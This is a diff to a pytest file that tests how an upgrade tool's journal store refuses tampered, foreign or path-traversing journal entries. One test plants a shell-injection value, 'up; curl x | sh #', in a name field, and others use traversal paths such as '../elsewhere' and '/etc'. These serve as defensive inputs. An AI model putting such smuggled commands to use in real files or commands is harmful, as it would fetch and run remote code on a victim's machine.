@@ -9,7 +9,7 @@ import pytest
 from levelfield.errors import LevelfieldError
 from levelfield.record.files import JOURNAL
 from levelfield.run.upgrade import store
-from levelfield.run.upgrade.progress import FORMAT
+from levelfield.run.upgrade.progress import FORMAT, How
 from tests.run.upgrade.journals import begun, events
 
 
@@ -54,9 +54,47 @@ def test_a_damaged_line_is_refused_and_a_torn_one_is_dropped(reports: Path) -> N
         store.load("up", reports)
 
 
-@pytest.mark.parametrize("run", ["../elsewhere", "/etc", "..", "a/b", "a\nb"])
+@pytest.mark.parametrize("run", ["../elsewhere", "/etc", "..", "a/b", "a\nb", "lnk", "upgrades"])
 def test_a_run_outside_of_the_reports_is_none(reports: Path, run: str) -> None:
     path = write(reports, "up", "o")
-    path.write_bytes(path.read_bytes().replace(b'"run-1"', msgspec.json.encode(run)))
+    path.write_bytes(path.read_bytes().replace(b'"20260301-000001-run"', msgspec.json.encode(run)))
     with pytest.raises(LevelfieldError, match="damaged in line 2"):
+        store.load("up", reports)
+
+
+EDITS = (
+    ('"launcher":null', '"launcher":"venv"'), ('"launcher":null', '"launcher":"host"'), ('"debian"', '"evil"'),
+    ('"identify":false', '"identify":true'), ('{"cpu model":"a CPU"}', "{}"),
+    ('{"kernel release":"6.1"}', "{}"), ('"boots":2', '"boots":9'), ('"one_way":false', '"one_way":true'),
+    ('"profile":"standard"', '"profile":"smoke"'), ('"salt":"salt"', '"salt":""'), ('"seal":"', '"seal":"\u00e4'),
+)  # fmt: skip
+
+
+@pytest.mark.parametrize(("was", "now"), EDITS)
+def test_what_this_installation_did_not_begin_is_read_and_not_gone_on_with(
+    reports: Path, cache: Path, was: str, now: str
+) -> None:
+    state = store.create(begun(how=How(budget_seconds=5)), reports)
+    assert store.load_own("up", reports) == state, "5 is written, and 5.0 is read"
+    path = store.folder("up", reports) / JOURNAL
+    text = path.read_text()
+    assert was in text
+    path.write_text(text.replace(was, now))
+    with pytest.raises(LevelfieldError, match="The upgrade up was not begun here, or was changed since") as caught:
+        store.load_own("up", reports)
+    assert "Begin another upgrade; or set LEVELFIELD_CACHE" in caught.value.fix
+    assert store.load("up", reports).begun.name == "up"
+
+
+def test_another_installation_does_not_go_on(reports: Path, cache: Path) -> None:
+    store.create(begun(), reports)
+    (cache / "installation.key").unlink()
+    with pytest.raises(LevelfieldError, match="was not begun here"):
+        store.load_own("up", reports)
+
+
+def test_a_journal_is_of_the_name_of_its_folder(reports: Path) -> None:
+    path = write(reports, "up", "o")
+    path.write_bytes(path.read_bytes().replace(b'"name":"up"', b'"name":"up; curl x | sh #"'))
+    with pytest.raises(LevelfieldError, match="is of an upgrade of another name"):
         store.load("up", reports)
